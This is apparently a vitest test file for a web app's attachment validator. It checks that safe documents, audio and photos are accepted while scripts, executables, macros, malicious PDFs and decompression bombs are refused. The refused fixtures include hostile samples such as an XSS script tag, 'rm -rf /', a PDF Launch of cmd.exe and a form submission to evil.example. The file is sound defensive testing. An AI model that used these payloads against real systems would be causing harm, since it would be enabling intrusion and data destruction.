import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { buffer } from 'node:stream/consumers'
import { deflateSync, gzipSync } from 'node:zlib'
import fc from 'fast-check'
import sharp from 'sharp'
import { afterAll, beforeAll, expect, test } from 'vitest'
import {
  amrFile,
  compoundFile,
  mp3File,
  mp4File,
  officeFile,
  openDocumentFile,
  opusFile,
  packObjects,
  pdfFile,
  wavFile,
  webmFile,
  zipFile,
} from '#test/builders/files.ts'
import { buildPhoto } from '#test/builders/gigs.ts'
import { buildPictureBomb } from '#test/builders/picture-bomb.ts'
import { unicodeText } from '#test/builders/unicode-text.ts'
import { contentOf, validateAttachments } from './attachments.ts'
import { takeTurn } from './picture-turns.ts'

let folder = ''
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'attachments-'))
})
afterAll(() => rm(folder, { recursive: true }))

const office = 'application/vnd.openxmlformats-officedocument'
const openDocument = 'application/vnd.oasis.opendocument'

const TAKEN: [name: string, body: Buffer, contentType: string, kept: string][] = [
  ['letter.pdf', pdfFile(), 'application/pdf', 'letter.pdf'],
  ['a.docx', officeFile('word'), `${office}.wordprocessingml.document`, 'a.docx'],
  ['a.xlsx', officeFile('excel'), `${office}.spreadsheetml.sheet`, 'a.xlsx'],
  ['a.pptx', officeFile('powerpoint'), `${office}.presentationml.presentation`, 'a.pptx'],
  ['a.odt', openDocumentFile('text'), `${openDocument}.text`, 'a.odt'],
  ['a.ods', openDocumentFile('spreadsheet'), `${openDocument}.spreadsheet`, 'a.ods'],
  ['a.odp', openDocumentFile('presentation'), `${openDocument}.presentation`, 'a.odp'],
  ['a.doc', compoundFile(['1Table', 'WordDocument']), 'application/msword', 'a.doc'],
  ['a.xls', compoundFile(['Workbook']), 'application/vnd.ms-excel', 'a.xls'],
  ['a.ppt', compoundFile(['PowerPoint Document']), 'application/vnd.ms-powerpoint', 'a.ppt'],
  ['voice.mp3', mp3File(), 'audio/mpeg', 'voice.mp3'],
  ['voice.opus', opusFile(), 'audio/ogg', 'voice.opus'],
  ['voice.wav', wavFile(), 'audio/wav', 'voice.wav'],
  ['voice.amr', amrFile(), 'audio/amr', 'voice.amr'],
  ['voice.m4a', mp4File('M4A ', ['soun']), 'audio/mp4', 'voice.m4a'],
  ['voice.mp4', mp4File('isom', ['soun']), 'audio/mp4', 'voice.m4a'],
  ['voice.3gp', mp4File('3gp4', ['soun']), 'audio/3gpp', 'voice.3gp'],
  ['voice.webm', webmFile([2]), 'audio/webm', 'voice.webm'],
  [
    'notes.txt',
    Buffer.from('Ɛhe na wowɔ?\n\tMeda wo ase\r\n'),
    'text/plain; charset=utf-8',
    'notes.txt',
  ],
  ['prices.csv', Buffer.from('tap,150\npipe,90\n'), 'text/plain; charset=utf-8', 'prices.csv'],
]

test.each(TAKEN)('%s is kept byte for byte', async (name, body, contentType, kept) => {
  const { attachments, errors } = await validateFiles({ name, body })
  expect(errors).toEqual([])
  expect(attachments).toMatchObject([{ name: kept, contentType, size: body.length }])
  expect(await bytesOf(attachments[0])).toEqual(body)
})

const script = '<script>alert(1)</script>'
/** Up to where sound begins. */
const openWebm = webmFile([2]).subarray(0, webmFile([2]).indexOf('1f43b675', 'hex'))

const REFUSED: [name: string, body: Buffer | string][] = [
  ['page.html', '<!doctype html><p>Hello</p>'],
  ['page.txt', `\n  ${script}`],
  ['late.txt', `${'a'.repeat(9000)}${script}`],
  ['drawing.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>'],
  ['drawing.png', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'],
  ['shell.txt', '#!/bin/sh\nrm -rf /\n'],
  ['page.php.txt', 'hi <?php phpinfo() ?>'],
  ['program.js', 'alert(1)'],
  ['start.BAT', 'del *.*'],
  ['archive.zip', zipFile({ 'a.txt': 'a' })],
  ['archive.docx', zipFile({ 'a.txt': 'a' })],
  ['archive.gz', gzipSync('a')],
  ['program.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])],
  ['program.txt', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(99)])],
  ['app.jar', zipFile({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0' })],
  ['macros.docx', officeFile('word', true)],
  ['macros.xlsx', officeFile('excel', true)],
  ['macros.doc', compoundFile(['WordDocument', '_VBA_PROJECT'])],
  ['setup.doc', compoundFile(['\u4840\u3f3f\u4577'])],
  ['film.mp4', mp4File('isom', ['soun', 'vide'])],
  ['film.m4a', mp4File('M4A ', ['vide', 'soun'])],
  ['nothing.m4a', mp4File('M4A ', [])],
  ['film.3gp', mp4File('3gp4', ['vide'])],
  ['film.webm', webmFile([1, 2])],
  ['nothing.webm', webmFile([])],
  ['parts.webm', Buffer.concat([openWebm, Buffer.from('ec80'.repeat(60_000), 'hex')])],
  [
    'parts.m4a',
    Buffer.concat([
      mp4File('M4A ', ['soun']),
      Buffer.from('0000000866726565'.repeat(60_000), 'hex'),
    ]),
  ],
  ['nul.txt', 'a\0b'],
  ['control.txt', `${'a'.repeat(9000)}\u0007`],
  ['latin1.txt', Buffer.from([0x63, 0x61, 0x66, 0xe9])],
]

test.each(REFUSED)('%s is not taken, and the sentence names it', async (name, body) => {
  const { attachments, errors } = await validateFiles({ name, body: Buffer.from(body) })
  expect(attachments).toEqual([])
  expect(errors).toEqual([expect.stringMatching(`^${name}: We do not take this kind of file`)])
})

test.each([
  ['its first bytes', Buffer.from('%PDF-1.4\n')],
  ['no end', pdfFile().subarray(0, -30)],
  ['no root', Buffer.from(pdfFile().toString().replace('/Root', '/Boot'))],
  ['nothing but digits', Buffer.from(`%PDF-1.4\n${'1'.repeat(300_000)}`)],
  ['a page behind its mark', Buffer.from(`%PDF-1.4\n${script}`)],
])('a PDF of %s is damaged', async (_case, body) => {
  const { errors } = await validateFiles({ name: 'a.pdf', body })
  expect(errors).toEqual(['a.pdf: The PDF is damaged.'])
})

const deed = '3 0 <</S/JavaScript/JS(a)>>'

test.each([
  ['JavaScript', pdfFile('3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n')],
  ['JavaScript by another spelling', pdfFile('3 0 obj<</S/J#61va#53cript/JS(a)>>endobj\n')],
  ['JavaScript among packed objects', pdfFile(packObjects(deed))],
  ['a program to start', pdfFile('3 0 obj<</S/Launch/F(cmd.exe)>>endobj\n')],
  ['a further file', pdfFile('3 0 obj<</Type/EmbeddedFile/Length 0>>stream\n\nendstream endobj\n')],
  ['a form that is sent', pdfFile('3 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj\n')],
  [
    'objects packed in an odd way',
    pdfFile(packObjects('3 0 <<>>', '/Filter[/ASCIIHexDecode/FlateDecode]')),
  ],
  [
    'objects packed by a predictor',
    pdfFile(packObjects('3 0 <<>>', '/Filter/FlateDecode/DecodeParms<</Predictor 12>>')),
  ],
  ['objects packed by an escaped name', pdfFile(packObjects(deed, '/Filter/Fl#61teDecode'))],
  ['objects packed as said elsewhere', pdfFile(packObjects(deed, '/Filter 9 0 R'))],
  ['objects packed by two filters', pdfFile(packObjects(deed, '/Filter[/FlateDecode/Crypt]'))],
  [
    'objects behind a long gap',
    pdfFile(packObjects(deed, `${' '.repeat(2000)}/Filter/FlateDecode`)),
  ],
  ['objects behind a comment', pdfFile(packObjects(deed, '%1 0 obj\n/Filter/FlateDecode'))],
  [
    'objects behind a text that looks like others',
    pdfFile(packObjects(deed, `/X(${packObjects('3 0 <<>>').toString('latin1')} 8 0 obj)`)),
  ],
  [
    'objects behind a gap before their beginning',
    pdfFile(packObjects(deed, `/Filter/FlateDecode>>${' '.repeat(20)}stream\n`).subarray(0, -18)),
  ],
  ['more signs written as numbers than programs write', pdfFile('#61'.repeat(200_000))],
  ['as many among packed objects', pdfFile(packObjects('#61'.repeat(200_000)))],
  ['objects that unpack to gigabytes', pdfFile(packObjects('0'.repeat(40 * 1024 * 1024)))],
  [
    'encrypted objects',
    pdfFile(
      Buffer.concat([
        Buffer.from('3 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n'),
        Buffer.alloc(64, 7),
        Buffer.from('\nendstream endobj\n'),
      ]),
    ),
  ],
])('a PDF with %s is not taken', async (_case, body) => {
  const { errors } = await validateFiles({ name: 'a.pdf', body })
  expect(errors).toEqual([
    expect.stringMatching(/^a\.pdf: This PDF holds programs or further files/),
  ])
})

test('a PDF with packed objects and pages full of anything is kept', async () => {
  const page = deflateSync('BT (Launch the boat) Tj ET')
  const body = pdfFile(
    Buffer.concat([
      packObjects('3 0 <</Type/Page/Parent 2 0 R>>'),
      packObjects('4 0 <</Type/Page>>', ' /Filter [ /FlateDecode ] /Extends 7 0 R '),
      Buffer.from(
        '9 0 obj\r\n<< /Type /ObjStm /N 1 /First 4 >>\r\nstream\r\n5 0 <<>>\nendstream endobj\n',
      ),
      Buffer.from(`8 0 obj<</Filter/FlateDecode/Length ${page.length}>>stream\r\n`),
      page,
      Buffer.from('\r\nendstream endobj\n'),
    ]),
  )
  expect((await validateFiles({ name: 'a.pdf', body })).errors).toEqual([])
})

test('an empty file is told apart from one of a wrong kind', async () => {
  const { errors } = await validateFiles({ name: 'notes.txt', body: Buffer.alloc(0) })
  expect(errors).toEqual(['notes.txt: The file is empty.'])
})

test('every file that is not taken is named, also between good ones', async () => {
  const bad = { name: 'a.exe', body: Buffer.from('MZ\0\0') }
  const good = { name: 'b.pdf', body: pdfFile() }
  const { attachments, errors } = await validateFiles(bad, good, { ...bad, name: 'c.scr' })
  expect(attachments.map(({ name }) => name)).toEqual(['b.pdf'])
  expect(errors.map(error => error.slice(0, 5))).toEqual(['a.exe', 'c.scr'])
})

test('a photo loses the place where it was taken, and keeps its name', async () => {
  const photo = await buildPhoto({ width: 300, height: 200 })
  expect((await sharp(photo).metadata()).exif).toBeDefined()
  const { attachments } = await validateFiles({ name: 'IMG_1.JPEG', body: photo })
  const body = await bytesOf(attachments[0])
  expect(attachments).toMatchObject([
    { name: 'IMG_1.JPEG', contentType: 'image/jpeg', extension: 'jpg', size: body.length },
  ])
  expect((await sharp(body).metadata()).exif).toBeUndefined()
})

test.each(['png', 'gif', 'webp'] as const)('a %s becomes WebP and is called so', async format => {
  const { attachments } = await validateFiles({
    name: `a.b.${format}`,
    body: await square().toFormat(format).toBuffer(),
  })
  expect(attachments).toMatchObject([{ name: 'a.b.webp', contentType: 'image/webp' }])
  expect((await sharp(await bytesOf(attachments[0])).metadata()).format).toBe('webp')
})

test('a picture that unpacks to gigabytes is refused before it is unpacked', async () => {
  const bomb = buildPictureBomb(30_000, 30_000)
  expect(bomb.length).toBeLessThan(1_000_000)
  const { errors } = await validateFiles({ name: 'bomb.png', body: bomb })
  expect(errors).toEqual(['bomb.png: The picture is larger than 40 megapixels.'])
})

test('what opens like a picture and is none is called damaged', async () => {
  const body = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(script)])
  expect((await validateFiles({ name: 'a.jpg', body })).errors).toEqual([
    'a.jpg: The picture is damaged.',
  ])
})

test.each([
  ['letter.exe', 'letter.exe.pdf'],
  ['letter', 'letter.pdf'],
  ['.pdf', '.pdf'],
  ['LETTER.PDF', 'LETTER.PDF'],
  ['photo.png', 'photo.pdf'],
  ['invoice\u202efdp.exe', 'invoicefdp.exe.pdf'],
  ['\u200b', 'file.pdf'],
  [`${'ɛ'.repeat(300)}.pdf`, `${'ɛ'.repeat(146)}.pdf`],
  [`${'🎉'.repeat(127)}`, `${'🎉'.repeat(127)}.pdf`],
])('a PDF called %s is handed out as %s', async (uploadName, kept) => {
  const { attachments } = await validateFiles({ name: uploadName, body: pdfFile() })
  expect(attachments[0]?.name).toBe(kept)
})

test('whatever bytes and name come, the answer is a kept file or a sentence', async () => {
  const starts = [...TAKEN.map(([, body]) => body), ...REFUSED.map(([, body]) => Buffer.from(body))]
  const odd = fc
    .tuple(fc.constantFrom(...starts), fc.nat(80), fc.uint8Array({ maxLength: 200 }))
    .map(([start, kept, rest]) => Buffer.concat([start.subarray(0, kept), rest]))
  await fc.assert(
    fc.asyncProperty(odd, unicodeText({ maxLength: 40 }), async (body, name) => {
      const { attachments, errors } = await validateFiles({ name, body })
      expect(attachments.length + errors.length).toBe(1)
      expect(attachments[0]?.contentType ?? '').not.toMatch(/html|svg|xml$|javascript|octet/)
      expect(attachments[0]?.name ?? 'file').not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}]|^$/u)
    }),
    { numRuns: 400 },
  )
})

test('a picture waits while another of its sender is worked on, and nobody else’s does', async () => {
  const path = join(folder, 'of-two.jpg')
  await writeFile(path, await buildPhoto())
  const uploads = [{ name: 'a.jpg', path, size: 1, type: 'image/jpeg' }]
  const { promise: earlier, resolve: end } = Promise.withResolvers<void>()
  const turn = takeTurn(1, () => earlier)
  const judged: number[] = []
  const judge = async (senderId: number) => {
    const { attachments } = await validateAttachments(uploads, senderId)
    if (attachments.length === 1) judged.push(senderId)
  }
  const waiting = judge(1)
  for (const _ of [1, 2, 3]) await judge(2)
  expect(judged).toEqual([2, 2, 2])
  end()
  await Promise.all([turn, waiting])
  expect(judged).toEqual([2, 2, 2, 1])
})

async function validateFiles(...files: { name: string; body: Buffer }[]) {
  const uploads = files.map(async ({ name, body }, index) => {
    const path = join(folder, String(index))
    await writeFile(path, body)
    return { name, path, size: body.length, type: 'image/jpeg' }
  })
  return validateAttachments(await Promise.all(uploads), 1)
}

async function bytesOf(attachment: Parameters<typeof contentOf>[0] | undefined): Promise<Buffer> {
  if (!attachment) throw new Error('Nothing was taken')
  const content = contentOf(attachment)
  return Buffer.isBuffer(content) ? content : buffer(content)
}

const square = () =>
  sharp({ create: { width: 40, height: 40, channels: 3, background: '#00616a' } })
